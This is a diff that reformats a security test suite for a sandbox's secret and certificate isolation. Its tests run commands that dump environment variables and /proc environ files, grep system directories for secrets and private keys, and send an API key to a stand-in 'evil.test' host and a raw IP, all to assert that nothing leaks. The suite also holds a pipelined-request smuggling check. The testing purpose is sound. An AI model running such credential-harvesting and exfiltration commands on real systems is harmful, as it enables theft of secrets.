@@ -17,7 +17,8 @@ def setUpModule():
 
 class Secrets(attack.Case):
     def secret(self, name, hosts):
-        answer = attack.site.api("POST", "/secrets", {"name": name, "value": VALUE, "metadata": {"sandglass.hosts": hosts}})
+        answer = attack.site.api("POST", "/secrets",
+                                 {"name": name, "value": VALUE, "metadata": {"sandglass.hosts": hosts}})
         self.assertIn(answer.status, (200, 201), answer)
         self.addCleanup(attack.site.api, "DELETE", f"/secrets/{name}")
 
@@ -32,10 +33,13 @@ class Secrets(attack.Case):
     def test_E33_the_value_is_never_inside(self, user):
         box = self.boxed(user)
         out = self.sh(box, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
-                      f"grep -rlaF {VALUE[:12]} /proc/*/environ /proc/*/cmdline /etc /home /root /run /tmp /var 2>/dev/null; "
+                      f"grep -rlaF {VALUE[:12]} /proc/*/environ /proc/*/cmdline /etc /home /root /run /tmp /var "
+                      f"2>/dev/null; "
                       "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/reflect; "
-                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/reflect/authorization/pieces; "
-                      "curl -sS -m10 -D - -H \"X-Api-Key: $API_KEY\" http://a.test/reflect/x-api-key/header; true", user)
+                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" "
+                      "https://a.test/reflect/authorization/pieces; "
+                      "curl -sS -m10 -D - -H \"X-Api-Key: $API_KEY\" http://a.test/reflect/x-api-key/header; true",
+                      user)
         self.assertNotIn(VALUE, out)
         self.assertRegex(out, r"API_KEY=sgph_[0-9a-f]{32}")
         self.assertIn(VALUE, self.heads(self.before, world.A), "the host has it")
@@ -57,7 +61,8 @@ class Secrets(attack.Case):
         code = """
 fake, key = resolve("a.test")[1][0], os.environ["API_KEY"]
 evil = resolve("evil.test")[1][0]
-head = f"GET /who?k={key} HTTP/1.1\\r\\nHost: %s\\r\\nX-Other: {key}\\r\\nAuthorization: Bearer {key}\\r\\nConnection: close\\r\\n\\r\\n"
+head = (f"GET /who?k={key} HTTP/1.1\\r\\nHost: %s\\r\\nX-Other: {key}\\r\\n"
+        f"Authorization: Bearer {key}\\r\\nConnection: close\\r\\n\\r\\n")
 body = f"POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: {len(key)}\\r\\nConnection: close\\r\\n\\r\\n{key}"
 show([attempt(tcp, host, 80, (text % name if "%s" in text else text).encode())
       for host in (fake, evil, "198.41.0.4") for name in ("a.test", "evil.test") for text in (head, body)])
@@ -69,7 +74,9 @@ show([attempt(tcp, host, 80, (text % name if "%s" in text else text).encode())
         for line in heads.splitlines():
             if VALUE in line:
                 self.assertTrue(line.lower().startswith("authorization:"), line)
-        self.assertNotIn(VALUE, self.heads(self.before, world.EVIL) + "".join(line["text"] for line in self.before.lines("web", "body")))
+        self.assertNotIn(VALUE, self.heads(self.before,
+                                           world.EVIL) + "".join(line["text"] for line in self.before.lines("web",
+                                                                                                            "body")))
         self.on_record(box, kind="secret")
         self.assertNotIn(VALUE, json.dumps(attack.records(box)))
 
@@ -92,8 +99,10 @@ class Certificates(attack.Case):
 
     def test_E35_no_key_is_inside(self, user):
         box = self.box(network=INSPECTED)
-        out = self.sh(box, f"test -s {self.BESIDE} && find / -xdev \\( -name '*.key' -o -name '*.pem' -o -name '*.crt' \\) -newer /proc/1/cmdline "
-                      "2>/dev/null; grep -rla 'PRIVATE KEY' /etc /run /home /root /tmp /var /usr/local 2>/dev/null; true", user)
+        out = self.sh(box, f"test -s {self.BESIDE} && find / -xdev \\( -name '*.key' -o -name '*.pem' -o -name "
+                           f"'*.crt' \\) -newer /proc/1/cmdline "
+                      "2>/dev/null; grep -rla 'PRIVATE KEY' /etc /run /home /root /tmp /var /usr/local 2>/dev/null; "
+                      "true", user)
         self.assertEqual([line for line in out.splitlines() if "key" in line.lower()], [])
 
     def test_E35_a_neighbours_certificate_is_worth_nothing(self, user):
@@ -138,7 +147,8 @@ context = ssl.create_default_context()
 fake = resolve("a.test")[1][0]
 def two(second):
     with connect(fake, 443) as s, context.wrap_socket(s, server_hostname="a.test") as t:
-        t.sendall(f"GET /who HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\nGET /who HTTP/1.1\\r\\nHost: {second}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+        t.sendall(b"GET /who HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")
+        t.sendall(f"GET /who HTTP/1.1\\r\\nHost: {second}\\r\\nConnection: close\\r\\n\\r\\n".encode())
         return rest(t)
 show([attempt(https, fake, "a.test", name, 443, context) for name in ("evil.test", "x.b.test", "a.test:80")] +
      [attempt(two, name) for name in ("evil.test", "www.a.test", "a.test")])
